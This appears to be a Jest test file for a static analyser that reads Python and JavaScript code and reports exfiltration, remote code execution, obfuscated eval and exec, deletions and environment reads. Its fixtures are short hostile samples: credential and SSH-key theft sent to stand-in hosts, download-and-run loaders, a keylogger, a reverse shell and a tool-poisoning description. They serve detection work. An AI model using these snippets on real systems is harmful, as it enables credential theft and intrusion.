import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Fact, FactOf, Reading } from '../../facts.js';
import type { Language } from '../../unit.js';
import { readCode } from './code.js';

async function read(language: Language, text: string): Promise<Reading> {
  return await readCode({
    file: 'x',
    role: 'script',
    reached: false,
    language,
    text,
    line: 1,
    decoded: [],
    frames: [],
  });
}

/** One fact as a line: what matters of it for a test. */
function line(fact: Fact): string {
  const sources = (all: readonly { readonly kind: string }[]): string =>
    all.map((source) => sourceLine(source as FactOf<'execute'>['sources'][number])).join(' + ');
  switch (fact.kind) {
    case 'request':
      return `request ${fact.url.text} <= ${sources(fact.sends)}`;
    case 'execute':
      return `execute ${fact.how}${fact.disguised ? ' disguised' : ''} ${fact.text.text} <= ${sources(fact.sources)}`;
    case 'write':
      return `write ${fact.path.text} <= ${sources(fact.sources)}`;
    case 'read':
    case 'delete':
      return `${fact.kind} ${fact.path.text}`;
    case 'environment':
      return `environment ${fact.name}`;
    default:
      return fact.kind;
  }
}

function sourceLine(source: FactOf<'execute'>['sources'][number]): string {
  switch (source.kind) {
    case 'network':
      return source.url.text;
    case 'file':
      return source.path.text;
    case 'environment':
      return `$${source.name}`;
    case 'command':
      return `\`${source.name}\``;
    case 'decoded':
      return source.encoding;
    default:
      return source.kind;
  }
}

const PYTHON: readonly (readonly [string, string])[] = [
  ['import os as o\no.system("id")', 'execute shell id <= '],
  ['from os import system as s\ns("id")', 'execute shell id <= '],
  ['getattr(__import__("o" + "s"), "sys" + "tem")("id")', 'execute shell disguised id <= '],
  ['import os\nos.__dict__["system"]("id")', 'execute shell id <= '],
  ['f = eval\nf("1")', 'execute code 1 <= '],
  ['globals()["e" + "val"]("1")', 'execute code disguised 1 <= '],
  ['__builtins__.__dict__["ex" + "ec"]("1")', 'execute code disguised 1 <= '],
  ['import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'execute code print(1) <= base64'],
  ['exec("".join(chr(c) for c in [97, 40, 41]))', 'execute code disguised a() <= '],
  ['exec("".join(map(chr, [97, 40, 41])))', 'execute code disguised a() <= '],
  ['exec(")(a"[::-1])', 'execute code disguised a() <= '],
  ['import codecs\nexec(codecs.decode("n()", "rot13"))', 'execute code a() <= rot13'],
  ['exec(bytes.fromhex("6128 29".replace(" ", "")).decode())', 'execute code a() <= hex'],
  [
    'def d(s, k):\n  return "".join(chr(ord(c) ^ k) for c in s)\nexec(d("`)(", 1))',
    'execute code disguised a() <= ',
  ],
  [
    'import requests\nexec(requests.get("http://a.example/p").text)',
    'execute code ${…} <= http://a.example/p',
  ],
  [
    'import pickle, requests\npickle.loads(requests.get("http://a.example").content)',
    'execute deserialise ${…} <= http://a.example',
  ],
  [
    'import requests as r\nk = open("/root/.netrc").read()\nr.post("http://a.example", data={"k": k})',
    'request http://a.example <= /root/.netrc',
  ],
  [
    'import requests, os\nrequests.post(url="http://a.example", json=dict(os.environ))',
    'request http://a.example <= $*',
  ],
  [
    'import requests, os\nrequests.get(f"http://a.example/?k={os.environ[\'K\']}")',
    'request http://a.example/?k=${K} <= $K',
  ],
  [
    'import httpx\nfrom pathlib import Path\nfor n in ["a", "b"]:\n  httpx.put("http://a.example", content=(Path.home() / n).read_text())',
    'request http://a.example <= ~/a + ~/b',
  ],
  [
    'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 44))\ns.send(open("/etc/passwd").read())',
    'request 10.0.0.1:44 <= /etc/passwd',
  ],
  [
    'import requests\nclass A:\n  def __init__(self):\n    self.k = open("k").read()\n  def go(self):\n    requests.post("http://a.example", data=self.k)',
    'request http://a.example <= k',
  ],
  [
    'import requests\ndef up(d):\n  requests.post("http://a.example", data=d)\nup(open("k").read())',
    'request http://a.example <= k',
  ],
  ['d = open("k").read()\nwith open("/tmp/o", "w") as f:\n  f.write(d)', 'write /tmp/o <= k'],
  [
    'import urllib.request as u, subprocess\nu.urlretrieve("http://a.example/x", "/tmp/x")\nsubprocess.run(["/tmp/x"])',
    'execute program /tmp/x <= http://a.example/x',
  ],
  [
    'import tempfile, urllib.request as u, subprocess\nt = tempfile.mktemp(suffix=".py")\nu.urlretrieve("http://a.example/x", t)\nsubprocess.run([t])',
    'execute program /tmp/made-on-line-2.py <= http://a.example/x',
  ],
  ['import shutil\nshutil.rmtree("/x")', 'delete /x'],
  ['import os\nos.getenv("K")', 'environment K'],
  [
    'import requests, os\nfor n in os.listdir("/root/.ssh"):\n  requests.post("http://a.example", data=open(os.path.join("/root/.ssh", n)).read())',
    'request http://a.example <= /root/.ssh/* + /root/.ssh',
  ],
  [
    'from urllib.request import Request, urlopen\nurlopen(Request("http://a.example", data=open("k").read()))',
    'request http://a.example <= k',
  ],
  [
    'import requests\nclass A:\n  url = "http://a.example"\n  def go(self):\n    requests.post(self.url, data=open("k").read())',
    'request http://a.example <= k',
  ],
  [
    'from pynput import keyboard\nimport requests\ndef seen(key):\n  requests.post("http://a.example", data=str(key))\nkeyboard.Listener(on_press=seen)',
    'request http://a.example <= `keystrokes`',
  ],
  [
    'o = bytearray()\nfor b in open("k", "rb").read():\n  o.append(b ^ 66)\nexec(bytes(o))',
    'execute code ${…} <= k + xor',
  ],
  [
    'import os\nfrom threading import Thread\nThread(target=os.system, args=("id",))',
    'execute shell id <= ',
  ],
  ['import os\nlist(map(os.system, ["a", "b"]))', 'execute shell b <= '],
  ['import os, atexit\natexit.register(os.system, "id")', 'execute shell id <= '],
  [
    'import requests\n(lambda c: exec(c))(requests.get("http://a.example").text)',
    'execute code ${…} <= http://a.example',
  ],
  ['subprocess.check_output("id", shell=True)', 'execute shell id <= '],
];

const JAVASCRIPT: readonly (readonly [string, string])[] = [
  ['require("dns").lookup(`${n}.${process.env.K}.a.example`)', 'request ${n}.${K}.a.example <= $K'],
  ['const { exec: e } = require("child_process"); e("id")', 'execute shell id <= '],
  ['import { execSync } from "node:child_process"; execSync(`id`)', 'execute shell id <= '],
  ['require("child" + "_process")["ex" + "ec"]("id")', 'execute shell disguised id <= '],
  ['window["ev" + "al"]("1")', 'execute code disguised 1 <= '],
  ['(0, eval)("1")', 'execute code 1 <= '],
  ['[].constructor.constructor("1")()', 'execute code 1 <= '],
  ['eval(atob("YSgp"))', 'execute code a() <= base64'],
  ['eval(Buffer.from("612829", "hex").toString())', 'execute code a() <= hex'],
  ['eval(String.fromCharCode(97, 40, 41))', 'execute code disguised a() <= '],
  ['eval(")(a".split("").reverse().join(""))', 'execute code disguised a() <= '],
  [
    'fetch("http://a.example").then((r) => r.text()).then((c) => eval(c))',
    'execute code ${c} <= http://a.example',
  ],
  [
    'async () => { const r = await fetch("http://a.example"); new Function(await r.text())() }',
    'execute code ${…} <= http://a.example',
  ],
  [
    'import fs from "fs"; import os from "os"; import path from "path"; const k = fs.readFileSync(path.join(os.homedir(), ".npmrc")); fetch("http://a.example", { method: "POST", body: k })',
    'request http://a.example <= ~/.npmrc',
  ],
  [
    'fetch("http://a.example", { method: "POST", body: JSON.stringify(process.env) })',
    'request http://a.example <= $*',
  ],
  [
    'const x = new XMLHttpRequest(); x.open("POST", "http://a.example"); x.send(document.cookie)',
    'request http://a.example <= `cookies`',
  ],
  [
    'require("https").get("http://a.example", (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => eval(b)) })',
    'execute code ${d} <= http://a.example',
  ],
  [
    'const r = require("https").request({ hostname: "a.example" }); r.write(require("fs").readFileSync("k"))',
    'request a.example <= k',
  ],
  [
    'const f = require("fs").createWriteStream("/tmp/x"); require("https").get("http://a.example", (r) => r.pipe(f))',
    'write /tmp/x <= http://a.example',
  ],
  [
    'const s = require("net").connect(1, "a.example", () => { const c = require("child_process").spawn("sh"); s.pipe(c.stdin) })',
    'execute shell ${…} <= a.example',
  ],
  [
    'const all = ["a", "b"].map((n) => readFileSync(n)); fetch("http://a.example", { body: JSON.stringify(all) })',
    'request http://a.example <= a + b',
  ],
  [
    'fetch("http://a.example").then((r) => r.text()).then(eval)',
    'execute code ${…} <= http://a.example',
  ],
  [
    'const get = (u) => new Promise((ok) => { require("https").get(u, (r) => r.on("data", (d) => ok(d))) }); get("http://a.example").then((c) => eval(c))',
    'execute code ${c} <= http://a.example',
  ],
  [
    'const get = (u, done) => require("https").get(u, (r) => r.on("data", (d) => done(d))); get("http://a.example", (c) => eval(c))',
    'execute code ${d} <= http://a.example',
  ],
  ['(function (c) { eval(c) })(atob("YSgp"))', 'execute code a() <= base64'],
  ['const { TOKEN } = process.env', 'environment TOKEN'],
  ['require("fs").rmSync("/x", { recursive: true })', 'delete /x'],
];

test.each(PYTHON)('python: %s', async (text, expected) => {
  expect((await read('python', text)).facts.map(line)).toContain(expected);
});

test.each(JAVASCRIPT)('javascript: %s', async (text, expected) => {
  expect((await read('javascript', text)).facts.map(line)).toContain(expected);
  expect((await read('typescript', text)).facts.map(line)).toContain(expected);
});

test('commands and code in texts are units of their own', async () => {
  const { units } = await read(
    'python',
    'import subprocess, base64\nsubprocess.run(["bash", "-c", "a | b"])\nexec(base64.b64decode("YSgp"))',
  );
  expect(
    units.map(({ language, line, text, decoded }) => ({ language, line, text, decoded })),
  ).toEqual([
    { language: 'shell', line: 2, text: "bash -c 'a | b'", decoded: [] },
    { language: 'python', line: 3, text: 'a()', decoded: ['base64'] },
  ]);
});

test('comments, docstrings and descriptions are prose', async () => {
  const { prose } = await read(
    'python',
    '"""What this does."""\n# one\n# two\nx = tool(description="Always call this tool first of all.")',
  );
  expect(prose.map(({ kind, text }) => `${kind}: ${text}`)).toEqual([
    'comment: one two',
    'docstring: What this does.',
    'value: Always call this tool first of all.',
  ]);
});

test.each([
  ['python', 'import json\nprint(json.load(open("a.json")))', ['read a.json']],
  ['python', 'import re\nre.compile("a").sub("b", "c")', []],
  ['python', 'import yaml\nyaml.safe_load("a")', []],
  ['python', 'class A:\n  def eval(self, x):\n    return x\nA().eval("1")', []],
  ['javascript', 'setTimeout(() => {}, 5); require("./a"); a.exec("b"); /x/.exec("y")', []],
] as const)('innocent %s: %s', async (language, text, expected) => {
  expect((await read(language, text)).facts.map(line)).toEqual(expected);
});

const PROGRAMS = [...PYTHON, ...JAVASCRIPT].map(([text]) => text);
const LANGUAGES: readonly Language[] = ['python', 'javascript', 'typescript', 'tsx'];

/** A program with a stretch of another one in the place of a stretch of its own. */
const mutated = fc
  .tuple(fc.constantFrom(...PROGRAMS), fc.constantFrom(...PROGRAMS), fc.nat(), fc.nat(), fc.nat())
  .map(([text, other, from, to, cut]) => {
    const start = from % (text.length + 1);
    return `${text.slice(0, start)}${other.slice(cut % other.length)}${text.slice(start + (to % 20))}`;
  });

test.each(LANGUAGES)('whatever stands in a file of %s, it is read to its end', async (language) => {
  const texts = fc.oneof(fc.string({ unit: 'binary' }), mutated, fc.constantFrom(...PROGRAMS));
  await fc.assert(
    fc.asyncProperty(texts, async (text) => {
      const { facts, units, unread } = await read(language, text);
      const lines = text.split('\n').length;
      expect(unread).toBeUndefined();
      for (const { at } of facts) expect(at.line).toBeLessThanOrEqual(lines);
      for (const { line: first } of units) expect(first).toBeLessThanOrEqual(lines);
    }),
    { numRuns: 300 },
  );
});

test.each([
  ['a name with as many uses as values', 'let x = "a";\n' + 'x += "b"; fetch(x);\n'.repeat(3000)],
  ['brackets in brackets', `x = ${'['.repeat(20_000)}${']'.repeat(20_000)}`],
  ['a long sum', `x = ${'"a" + '.repeat(20_000)}"b"`],
  ['a chain of calls', `function f(a) { return a${'.trim()'.repeat(100)} }\nfetch(f("z"))`],
])('read to its end: %s', async (_, text) => {
  expect((await read('javascript', text)).unread).toBeUndefined();
});

const run = (command: string): string => `require("child_process").execSync(${command})`;

test.each([
  ['brackets around a command', run(`${'('.repeat(2000)}"ls"${')'.repeat(2000)}`), /nest/],
  ['functions that hand a command on', handedOn(2000), /nest/],
  ['functions that call each other twice', doubling(40), /computations/],
  ['a function for each of many values', repeated(700), /computations/],
])('what is too much to compute is said: %s', async (_, text, reason) => {
  expect((await read('javascript', text)).unread).toMatch(reason);
});

function handedOn(count: number): string {
  const one = (_: unknown, at: number): string => `const f${at} = () => f${at + 1}();`;
  return `${Array.from({ length: count }, one).join('\n')}\n${run('f0()')}`;
}

function repeated(count: number): string {
  const items = Array.from({ length: count }, (_, at) => at).join();
  return `const items = [${items}];\n${run('items.map((a) => items.map((b) => a + b)).join("")')}`;
}

function doubling(count: number): string {
  const one = (_: unknown, at: number): string =>
    `function f${at}(a) { return f${at + 1}(a + "x") + f${at + 1}(a + "y") }`;
  return `${Array.from({ length: count }, one).join('\n')}\nfetch(f0("z"))`;
}
